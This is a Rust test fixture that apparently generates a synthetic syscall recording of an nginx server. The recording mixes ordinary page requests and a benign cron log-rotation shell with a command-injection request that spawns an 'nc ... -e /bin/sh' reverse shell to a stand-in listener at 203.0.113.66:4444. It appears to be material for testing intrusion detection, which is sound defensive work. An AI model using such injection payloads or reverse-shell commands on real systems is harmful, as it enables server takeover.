//! A request makes a web server start a shell, and the shell connects to a stranger and hands itself over.

use std::net::{Ipv4Addr, SocketAddrV4};

use super::host;
use super::recording::{EAGAIN, Recording, flag};
use super::task::{Open, Task};

const WEB: Ipv4Addr = Ipv4Addr::new(10, 8, 1, 33);
const UPSTREAM: SocketAddrV4 = SocketAddrV4::new(Ipv4Addr::new(10, 8, 4, 20), 8080);
const VISITOR: Ipv4Addr = Ipv4Addr::new(192, 0, 2, 77);
const ATTACKER: Ipv4Addr = Ipv4Addr::new(198, 51, 100, 23);
const LISTENER: SocketAddrV4 = SocketAddrV4::new(Ipv4Addr::new(203, 0, 113, 66), 4444);

/// A page for a visitor, and a question to the application behind the web server.
fn everyday(to: &mut Recording, worker: &mut Task, journald: &Task, round: u16) {
    let http = SocketAddrV4::new(WEB, 80);
    to.wait(worker, 1);
    let fd = to.accept(worker, SocketAddrV4::new(VISITOR, 50_100 + round), http);
    to.receive(worker, fd, "GET /index.html HTTP/1.1\r\nHost: www.example\r\nAccept: text/html\r\n\r\n");
    let page = to.open(worker, "/var/www/html/index.html", flag::O_RDONLY | flag::O_CLOEXEC);
    to.stat(worker, page, "");
    to.write_vector(
        worker,
        fd,
        "HTTP/1.1 200 OK\r\nServer: nginx\r\nContent-Type: text/html\r\nContent-Length: 612\r\n\r\n",
    );
    to.send_file(worker, fd, page, 612);
    to.close(worker, page);
    to.write(worker, 4, "192.0.2.77 - - \"GET /index.html HTTP/1.1\" 200 612\n");
    if round.is_multiple_of(3) {
        let upstream = to.socket(worker);
        to.connect(worker, upstream, SocketAddrV4::new(WEB, 41_000 + round), UPSTREAM);
        to.write_vector(worker, upstream, "GET /api/stock HTTP/1.0\r\nHost: app\r\n\r\n");
        to.receive(worker, upstream, "HTTP/1.0 200 OK\r\n\r\n[]");
        to.close(worker, upstream);
    }
    to.close(worker, fd);
    to.wait(journald, 1);
    to.read(journald, 3, Err(EAGAIN));
    to.pause(230);
}

/// Cron runs a shell, too: a benign one.
fn rotate_logs(to: &mut Recording, cron: &Task) {
    let mut shell = to.fork(cron, 4390, 4390);
    shell.sid = 4390;
    to.exec(&mut shell, "/bin/sh", &["/bin/sh", "-c", "/usr/sbin/logrotate /etc/logrotate.conf"]);
    let mut logrotate = to.fork(&shell, 4391, 4391);
    to.exec(&mut logrotate, "/usr/sbin/logrotate", &["/usr/sbin/logrotate", "/etc/logrotate.conf"]);
    let fd = to.open(&mut logrotate, "/etc/logrotate.conf", flag::O_RDONLY);
    to.read(&logrotate, fd, Ok("weekly\nrotate 4\ncreate\n"));
    to.close(&mut logrotate, fd);
    to.exit(&logrotate, 0, 0);
    to.exit(&shell, 0, 0);
}

/// The whole capture.
pub fn capture() -> Vec<u8> {
    let mut tasks = host::services();
    let mut master = Task::service(812, "/usr/sbin/nginx", &["-g", "daemon on; master_process on;"])
        .with_fd(3, Open::Listening(Ipv4Addr::UNSPECIFIED, 80));
    for (fd, open) in [(4, Open::File("/var/log/nginx/access.log".into())), (5, Open::Pipe(20_411))] {
        master = master.with_fd(fd, open);
    }
    let worker = |pid| {
        let mut worker = Task { pid, vpid: pid, args: vec!["nginx: worker process".into()], ..master.clone() };
        worker = worker.owned_by(33, 33).child_of(master.pid);
        worker.cwd = "/var/www".into();
        worker
    };
    let (mut first, mut second) = (worker(813), worker(814));
    tasks.extend([master, first.clone(), second.clone()]);
    let named = |name: &str| tasks.iter().find(|task| task.comm == name).cloned().expect("the service runs");
    let (journald, cron) = (named("systemd-journal"), named("cron"));

    let mut recording = Recording::new(&host::head("web-03", WEB, &tasks));
    let to = &mut recording;
    for round in 0..9 {
        everyday(to, if round % 2 == 0 { &mut first } else { &mut second }, &journald, round);
    }
    rotate_logs(to, &cron);

    // The request that should never have been possible.
    to.wait(&first, 1);
    let request = to.accept(&mut first, SocketAddrV4::new(ATTACKER, 51_544), SocketAddrV4::new(WEB, 80));
    to.receive(
        &first,
        request,
        "POST /status?check=;nc%20203.0.113.66%204444%20-e%20/bin/sh HTTP/1.1\r\nHost: www.example\r\n\r\n",
    );
    let mut shell = to.fork(&first, 4471, 4471);
    let command = "nc 203.0.113.66 4444 -e /bin/sh";
    to.exec(&mut shell, "/bin/sh", &["sh", "-c", command]);
    to.stat(&shell, -1, "/usr/bin/nc");
    let mut nc = to.fork(&shell, 4472, 4472);
    to.exec(&mut nc, "/usr/bin/nc", &["nc", "203.0.113.66", "4444", "-e", "/bin/sh"]);
    let fd = to.socket(&mut nc);
    to.connect(&nc, fd, SocketAddrV4::new(WEB, 47_212), LISTENER);
    for stream in 0..3 {
        to.dup2(&mut nc, fd, stream);
    }
    to.close(&mut nc, fd);
    to.exec(&mut nc, "/bin/sh", &["/bin/sh"]);
    to.pause(1800);
    to.read(&nc, 0, Ok("id\n"));
    let mut id = to.fork(&nc, 4473, 4473);
    to.exec(&mut id, "/usr/bin/id", &["id"]);
    to.write(&id, 1, "uid=33(www-data) gid=33(www-data) groups=33(www-data)\n");
    to.exit(&id, 0, 0);

    for round in 9..18 {
        everyday(to, &mut second, &journald, round);
    }
    to.read(&nc, 0, Ok(""));
    to.exit(&nc, 0, 0);
    to.exit(&shell, 0, 0);
    recording.finish()
}
